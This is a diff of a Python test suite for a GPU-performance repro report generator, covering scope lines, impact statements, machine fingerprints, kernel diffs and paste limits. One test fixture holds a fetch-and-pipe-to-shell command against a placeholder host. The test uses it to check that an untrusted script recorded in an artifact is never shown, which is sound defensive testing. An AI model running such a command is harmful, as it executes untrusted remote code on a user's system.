@@ -20,7 +20,7 @@ from repro.cli.main import app
 from repro.core import jsonfit
 from repro.core.kernelnames import short_names
 from repro.evidence import artifact, bundle, markdown, plots
-from repro.evidence.report import REPORT_LIMIT, report
+from repro.evidence.report import PASTE_LIMIT, PASTE_LINES, report
 from repro.run import scripts
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -46,34 +46,50 @@ def _summary_row(text: str, rid: str) -> str:
     return next(ln for ln in text.splitlines() if ln.startswith(f"| {rid} |"))
 
 
+def _section(text: str, rid: str) -> str:
+    """A repro's section: from its heading to the next heading (its details block included)."""
+    return text.split(f"## `{rid}`", 1)[1].split("\n## ", 1)[0]
+
+
+def _scope_line(text: str, rid: str) -> str:
+    return next(ln for ln in _section(text, rid).splitlines() if ln.startswith(("- Holds for: ", "- Measured at: ")))
+
+
 def _json_blocks(text: str) -> list[str]:
     return re.findall(r"(?s)```json\n(.*?)\n```", text)
 
 
-def test_summary_rows_carry_their_qualifiers_from_structured_fields(docs: list[dict]) -> None:
+def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[dict]) -> None:
     text = _report(docs)
-    solve = _summary_row(text, "solve-512-cliff")
-    assert "cusolver backend, batch 128" in solve and "default backend: at most 0.97x, not reproduced" in solve
-    memset = _summary_row(text, "graph-memset")
-    assert "pure CUDA twin; torch graph: 1.30x, reproduced" in memset
-    assert "batch 2, no memory cap" in _summary_row(text, "lora-batch-scaling")
-    assert "fp32 (TF32 off); tf32: 0.59x" in _summary_row(text, "5090-linear")
-    # From the breakdown rows, not the prose: change a qualifier and the row follows.
+    solve = _scope_line(text, "solve-512-cliff")
+    assert solve.startswith("- Holds for: cusolver backend, batch 128")  # reproduced: what it holds for
+    assert "default backend: at most 0.97x, not reproduced" in solve
+    assert "pure CUDA twin; torch graph: 1.30x, reproduced" in _scope_line(text, "graph-memset")
+    lora = _scope_line(text, "lora-batch-scaling")
+    assert lora.startswith("- Measured at: batch 2, no memory cap")  # not reproduced: where it was measured
+    assert "fp32 (TF32 off); tf32: 0.59x" in _scope_line(text, "5090-linear")
+    # From the breakdown rows, not the prose: change a qualifier and the line follows.
     changed = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
     for row in changed["verdict"]["breakdown"]:
         row["backend"] = {"default": "magma", "cusolver": "cusolver"}[row["backend"]]
-    assert "magma backend: at most 0.97x" in _summary_row(_report([changed]), "solve-512-cliff")
+    assert "magma backend: at most 0.97x" in _scope_line(_report([changed]), "solve-512-cliff")
 
 
-def test_impact_is_declared_per_repro_and_states_this_runs_cost(docs: list[dict]) -> None:
+def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[dict]) -> None:
     text = _report(docs)
-    impacts = [ln for ln in text.splitlines() if ln.startswith("Impact: ")]
-    assert len(impacts) == 5  # 1.1 artifacts: from the catalog lookup the caller passes in
-    solve = next(ln for ln in impacts if "solve\\_ex 128x512x512" in ln or "solve_ex 128x512x512" in ln)
-    assert "108 ms per call against 11.2 ms" in solve
-    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
+    reproduced = {d["repro"]["id"] for d in docs if d["verdict"]["status"] == "reproduced"}
+    assert reproduced == {"graph-memset", "solve-512-cliff"}
+    for d in docs:  # 1.1 artifacts: the impact comes from the catalog lookup the caller passes in
+        rid = d["repro"]["id"]
+        assert ("\n- Impact: " in _section(text, rid)) == (rid in reproduced), rid
+    solve = next(ln for ln in _section(text, "solve-512-cliff").splitlines() if ln.startswith("- Impact: "))
+    assert "solve_ex 128x512x512" in solve and "108 ms per call against 11.2 ms" in solve
+    doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
     doc["repro"]["impact"] = "Declared in the artifact."
-    assert "Impact: Declared in the artifact. In this run" in _report([doc])
+    assert "- Impact: Declared in the artifact. In this run" in _report([doc])
+    for status in ("not_reproduced", "skipped", "error", "smoke"):
+        doc["verdict"]["status"] = status
+        assert "Impact" not in _report([doc]), status
 
 
 def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: list[dict]) -> None:
@@ -109,23 +125,19 @@ def _worst_case(docs: list[dict]) -> list[dict]:
     return out
 
 
-def test_worst_case_report_fits_and_keeps_evidence_intact(docs: list[dict]) -> None:
+def test_worst_case_report_fits_one_screen_and_keeps_evidence_intact(docs: list[dict]) -> None:
     worst = _worst_case(docs)
     assert len(_by_id(worst, "solve-512-cliff")["variants"]) == 81
     text = _report(worst)
-    assert len(text) <= REPORT_LIMIT
-    blocks = _json_blocks(text)
-    assert blocks
-    for body in blocks:
-        json.loads(body)  # whatever was kept still parses
-    # Each distinct fingerprint once (all five share one machine), referred to by machine.
-    assert text.count("full fingerprint (used by") == 1
-    assert text.count("fingerprint: machine A under Environment") == 5
+    assert len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES, (len(text), text.count("\n"))
+    assert not _json_blocks(text) and "Flags: x" not in text  # the JSON and the whole collect_env are in the bundle
+    # The one machine once; its libraries from collect_env and from what the process loaded.
+    assert text.count("<summary>machine A: fingerprint summary") == 1 and "machine B" not in text
     assert "Versions of relevant libraries" in text
-    assert "Libraries this process loaded" in text and "cusolver 12.0.4" in text
+    assert "Libraries loaded (from /proc/self/maps" in text and "cusolver 12.0.4" in text
     assert "`20261129T233452Z-51a4de.bundle.tar.gz`" in text
-    assert "the full artifacts are in `20261129T233452Z-51a4de.bundle.tar.gz`" in text  # where something went
-    assert text.count("standalone script (plain torch") == 5
+    assert text.count("Standalone script: `scripts/") == 5
+    assert "| solve_ex 128x512x512 (cusolver) |" in text and "75 more variants in the artifact" in text
 
 
 def test_fit_json_cuts_only_at_element_boundaries() -> None:
@@ -162,11 +174,15 @@ def test_kernel_names_are_short_and_tell_apart(docs: list[dict]) -> None:
     assert len(cells) == len(set(cells)) and not any("anonymou" in c for c in cells)
 
 
-def test_diffs_once_per_pair_and_small_percentages(docs: list[dict]) -> None:
+def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict]) -> None:
     text = _report(docs)
-    pairs = re.findall(r"- \*\*(\S+) -> (\S+)\*\*", text)
-    assert pairs and len({frozenset(p) for p in pairs}) == len(pairs)
-    assert "0.21% of fp32" in text and "| 0% of" not in text
+    for d in docs:
+        section = _section(text, d["repro"]["id"])
+        assert section.count("- Kernels, ") <= 1
+        bullets = re.findall(r"(?m)^  - .*us/call\)?$", section)
+        assert len(bullets) <= 3
+    assert "- Kernels, solve_ex 128x511x511 (cusolver) -> solve_ex 128x512x512 (cusolver):" in text
+    assert "0.21% of fp32" in text and "(0% of" not in text
     pct = markdown.fmt_pct
     assert pct(96.4) == "96%" and pct(4.23) == "4.2%" and pct(0.0021) == "0.0021%"
 
@@ -177,21 +193,24 @@ def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict]) 
     memset = scripts.regenerate(_by_id(docs, "graph-memset"))[0]  # twin headline: the torch side instead
     assert memset and "memset/fill (torch graph)" in memset
     text = _report(docs)
-    assert "git checkout 86fbd015412f36e83090fd6f1003545dcee2b5a4" in text and "pip install -e ." in text
+    said = "# this run predates harness digests: harness 0.1.0, commit 86fbd015412f36e83090fd6f1003545dcee2b5a4"
+    assert text.count(said) == 5 and "pip install" not in text and "<org>" not in text
 
 
 def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict]) -> None:
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["repro"]["script"] = "import os\nos.system('curl https://example.invalid | sh')  # SWAPPED"
     bare = report([doc])  # no catalog lookup passed in: no script, and one line saying so
-    assert "SWAPPED" not in bare and "standalone script (plain torch" not in bare
-    assert "_No standalone script could be regenerated here (the report was rendered without the catalog)._" in bare
-    shown = _report([doc])  # regenerated from the catalog's code for the artifact's id and params
-    assert "SWAPPED" not in shown and "standalone script (plain torch" in shown and "nn.Linear" in shown
+    assert "SWAPPED" not in bare and "Standalone script:" not in bare
+    assert "No standalone script could be regenerated here (the report was rendered without the catalog)." in bare
+    shown = _report([doc])  # regenerated from the catalog's code: named, and packed into the bundle, not pasted
+    assert "SWAPPED" not in shown
+    assert "Standalone script: `scripts/5090-linear.py` in the bundle, or `repro script 5090-linear`" in shown
+    assert "```python" not in shown
     unknown = copy.deepcopy(doc)
     unknown["repro"]["id"] = "not-in-this-catalog"
     text = _report([unknown])
-    assert "SWAPPED" not in text and "standalone script (plain torch" not in text
+    assert "SWAPPED" not in text and "Standalone script:" not in text
     assert "regenerated here (not-in-this-catalog is not in this installation's catalog)" in text
 
 
@@ -321,7 +340,7 @@ def test_a_fresh_report_renders_intact_too(docs: list[dict], tmp_path: Path) -> 
     figs = [plots.Figure(f.repro_id, f.sweep, f.file, f.alt, True) for f in figs]  # as if drawn
     text = _report(_worst_case(docs), figures=figs)
     got, want = _gfm_counts(text), _expected(text)
-    assert got == want and got["images"] == 2 and got["tables"] >= 15
+    assert got == want and got["images"] == 2 and got["tables"] >= 10
     if shutil.which("cmark-gfm"):
         html = subprocess.run(
             ["cmark-gfm", "-e", "table", "--unsafe"], input=text, capture_output=True, text=True, check=True
@@ -336,7 +355,14 @@ def test_a_smoke_run_says_in_its_scope_that_it_proves_only_the_pipeline(docs: li
     text = _report([doc])
     scope = text.split("## Not tested here", 1)[1]
     assert "5090-linear: a smoke run on cpu (shrunken sizes): it proves the pipeline, not the cliff." in scope
-    assert "standalone script" not in text and "<details>" not in text  # a smoke report stays short
+    assert "Standalone script" not in text and "## Environment" not in text  # a smoke report stays short
+    # A repro that did not run in a smoke run was not a smoke run either: one line, its own status.
+    skipped = copy.deepcopy(doc)
+    skipped["run"]["device"] = None
+    skipped["verdict"].update(status="skipped", finding="Not measured: no CUDA device is visible to torch")
+    scope = _report([skipped]).split("## Not tested here", 1)[1].split("\n## ", 1)[0]
+    assert "5090-linear: not measured (skipped): no CUDA device is visible to torch" in scope
+    assert "smoke run" not in scope
 
 
 def test_two_machines_get_a_fingerprint_each_and_rows_say_which(docs: list[dict]) -> None:
@@ -344,12 +370,13 @@ def test_two_machines_get_a_fingerprint_each_and_rows_say_which(docs: list[dict]
     two[1]["fingerprint"]["gpu"]["uuid"] = "another-gpu"
     two[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0  # state alone never makes a machine
     text = _report(two)
-    assert text.count("full fingerprint (used by") == 2
-    assert "machine A: full fingerprint (used by 5090-linear)" in text
-    assert "machine B: full fingerprint (used by fused-adam-capturable)" in text
+    assert text.count(": fingerprint summary, GPU state") == 2
+    assert "**Machine A** (used by 5090-linear)" in text and "**Machine B** (used by fused-adam-capturable)" in text
+    assert "Fingerprint: machine B under Environment." in _section(text, "fused-adam-capturable")
     same = copy.deepcopy(docs[:2])
     same[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0
-    assert _report(same).count("full fingerprint (used by") == 1
+    one = _report(same)
+    assert one.count(": fingerprint summary, GPU state") == 1 and "Fingerprint: machine" not in one
 
 
 def test_an_error_artifact_without_variants_still_reports(docs: list[dict]) -> None:
@@ -359,5 +386,6 @@ def test_an_error_artifact_without_variants_still_reports(docs: list[dict]) -> N
     doc["verdict"]["finding"] = "Not measured: the repro crashed"
     doc["error"] = {"kind": "crash", "message": "segfault", "exit_code": -11, "signal": "SIGSEGV"}
     text = _report([doc])
-    assert "lora-batch-scaling: not measured (error): Not measured: the repro crashed" in text
-    assert "Impact: " in text and "In this run" not in text  # no pair, no cost sentence
+    assert "lora-batch-scaling: not measured (error): the repro crashed" in text
+    assert "Error (crash): segfault" in _section(text, "lora-batch-scaling")
+    assert "Impact" not in text and "Re-run elsewhere" not in text  # nothing measured: nothing at stake, no band
